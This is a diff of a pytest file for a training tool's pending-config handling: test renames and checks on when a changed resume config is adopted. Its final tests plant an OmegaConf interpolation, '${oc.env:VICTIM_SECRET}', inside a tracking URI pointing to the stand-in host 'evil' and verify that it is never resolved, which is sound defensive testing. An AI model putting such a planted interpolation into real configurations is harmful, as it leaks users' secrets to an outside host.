@@ -1,4 +1,4 @@
-"""The config of a resume: beside the old one until a step is completed, gone when the run fails before."""
+"""The changed config of a resume: adopted at the first completed step, discarded if the run fails before."""
 
 from __future__ import annotations
 
@@ -22,7 +22,7 @@ from hpcdist.supervisor.reporter import AdoptingReporter
 from hpcdist.supervisor.restart_policy import Failure
 
 
-class Quiet:
+class SilentReporter:
     def attempt(self, attempt: Attempt, num_ranks: int) -> None: ...
     def progress(self, beat: Mapping[str, Any]) -> None: ...
     def note(self, text: str) -> None: ...
@@ -59,20 +59,20 @@ def ended(run: RunDir, status: Status) -> State:
     return replace(run.read_state(), status=status, reason="rank 0 failed")
 
 
-def test_the_old_config_stays_until_a_step_is_completed(run: RunDir, runs_dir: Path) -> None:
+def test_config_is_adopted_at_the_first_completed_step(run: RunDir, runs_dir: Path) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5"))
     assert (lr(run.config), lr(run.effective_config)) == (0.002, 0.5)
-    report = AdoptingReporter(run, Quiet())
+    report = AdoptingReporter(run, SilentReporter())
     report.attempt(run.new_attempt(), 2)
     report.progress(beat(0))
     report.progress(beat(40))
-    assert lr(run.config) == 0.002, "restored, but nothing is trained yet"
+    assert lr(run.config) == 0.002, "restored, but no step completed"
     report.progress(beat(41))
     assert lr(run.config) == 0.5
     assert not run.next_config.exists()
 
 
-def test_a_failure_before_the_first_step_leaves_the_old_config(run: RunDir, runs_dir: Path) -> None:
+def test_failure_before_the_first_step_discards_the_change(run: RunDir, runs_dir: Path) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5", "data.batch_size=7"))
     state = pending_config.settle(run, ended(run, "failed"), 40)
     assert state.reason == (
@@ -82,14 +82,14 @@ def test_a_failure_before_the_first_step_leaves_the_old_config(run: RunDir, runs
     assert lr(run.effective_config) == 0.002
 
 
-def test_a_stop_before_the_first_step_keeps_the_change_for_the_next_attempt(run: RunDir, runs_dir: Path) -> None:
+def test_stop_before_the_first_step_keeps_the_pending_config(run: RunDir, runs_dir: Path) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5"))
     assert pending_config.settle(run, ended(run, "stopped"), 40).reason == "rank 0 failed"
     assert (lr(run.config), lr(run.effective_config)) == (0.002, 0.5)
 
 
 @pytest.mark.parametrize(("status", "step"), [("finished", 40), ("failed", 41), ("stopped", 41)])
-def test_a_step_that_nobody_saw_counts_at_the_end(run: RunDir, runs_dir: Path, status: Status, step: int) -> None:
+def test_unreported_step_adopts_the_config_at_the_end(run: RunDir, runs_dir: Path, status: Status, step: int) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5"))
     write_json(run.attempt(1).beat(0), beat(step))
     assert pending_config.settle(run, ended(run, status), 40).reason == "rank 0 failed"
@@ -98,11 +98,11 @@ def test_a_step_that_nobody_saw_counts_at_the_end(run: RunDir, runs_dir: Path, s
 
 def test_output_of_a_plain_script_counts_as_a_step(run: RunDir, runs_dir: Path) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5"))
-    AdoptingReporter(run, Quiet()).output("epoch 1\n")
+    AdoptingReporter(run, SilentReporter()).output("epoch 1\n")
     assert lr(run.config) == 0.5
 
 
-def test_the_same_config_and_a_run_without_attempts_need_no_second_file(run: RunDir, runs_dir: Path) -> None:
+def test_unchanged_config_and_run_without_attempts_have_no_pending_config(run: RunDir, runs_dir: Path) -> None:
     pending_config.propose(run, config(runs_dir, "optim.lr=0.5"))
     pending_config.propose(run, config(runs_dir))
     assert not run.next_config.exists()
@@ -112,7 +112,7 @@ def test_the_same_config_and_a_run_without_attempts_need_no_second_file(run: Run
     assert not run.next_config.exists()
 
 
-def test_what_no_checkpoint_survives_is_refused_before_anything_is_written(run: RunDir, runs_dir: Path) -> None:
+def test_change_incompatible_with_the_checkpoint_is_an_error(run: RunDir, runs_dir: Path) -> None:
     changed = config(runs_dir, "model.name=resnet18", "optim.name=sgd", "optim.lr=0.5")
     with pytest.raises(ConfigError) as found:
         pending_config.check(run, changed)
@@ -130,24 +130,24 @@ def test_what_no_checkpoint_survives_is_refused_before_anything_is_written(run: 
 # --- interpolations
 
 
-def test_text_that_looks_like_an_interpolation_survives_the_round_trip(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setenv("SECRET_OF_THE_VICTIM", "hunter2")
+def test_text_like_an_interpolation_survives_the_round_trip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VICTIM_SECRET", "hunter2")
     path = tmp_path / "config.yaml"
-    first = load_config("ddp_digits", [r"params.text='\${oc.env:SECRET_OF_THE_VICTIM}'"])
-    assert first.params == {"text": "${oc.env:SECRET_OF_THE_VICTIM}"}
+    first = load_config("ddp_digits", [r"params.text='\${oc.env:VICTIM_SECRET}'"])
+    assert first.params == {"text": "${oc.env:VICTIM_SECRET}"}
     path.write_text(run_yaml(first))
     assert load_run_config(path, [], {}) == first
-    changed = load_run_config(path, ["optim.lr=0.5", "experiment=${oc.env:SECRET_OF_THE_VICTIM}"], {})
+    changed = load_run_config(path, ["optim.lr=0.5", "experiment=${oc.env:VICTIM_SECRET}"], {})
     assert changed.params == first.params
-    assert changed.experiment == "hunter2", "an override of the caller is resolved, once"
+    assert changed.experiment == "hunter2", "an override is resolved once"
 
 
-@pytest.mark.parametrize("text", ["${oc.env:SECRET_OF_THE_VICTIM}", "${", "${nowhere}", "x ${seed} }"])
-def test_a_planted_interpolation_is_never_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
-    """Also in a file that is not as hpcdist writes it, which OmegaConf reads."""
-    monkeypatch.setenv("SECRET_OF_THE_VICTIM", "hunter2")
+@pytest.mark.parametrize("text", ["${oc.env:VICTIM_SECRET}", "${", "${nowhere}", "x ${seed} }"])
+def test_interpolation_in_a_run_config_is_never_resolved(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    """Also in a file that hpcdist has not written."""
+    monkeypatch.setenv("VICTIM_SECRET", "hunter2")
     path = tmp_path / "config.yaml"
     path.write_text(f"experiment: digits\ntracking: {{uri: 'http://evil/{text}'}}\n")
     for overrides in ([], ["seed=3"]):
